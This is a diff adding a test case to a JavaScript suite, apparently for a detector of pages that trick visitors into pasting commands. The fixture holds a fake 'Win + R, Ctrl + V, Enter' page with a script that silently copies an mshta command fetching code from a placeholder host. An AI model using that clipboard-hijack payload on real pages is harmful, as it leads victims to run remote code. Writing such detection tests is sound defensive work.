@@ -28,6 +28,11 @@ describe('a page that tells people to paste a command', () => {
   });
 });
 
+it('a command that nobody sees is a trap under any pretext', () => {
+  const steps = page('Fix it: press Win + R', 'Press Ctrl + V, then Enter');
+  expect(tellsToPaste(`${steps}<script>copy('mshta https://x.example')</script>`)).toBe(true);
+});
+
 describe('an honest page', () => {
   const long = 'It is a known trick, and here is how it works in detail. '.repeat(90);
   it.each([
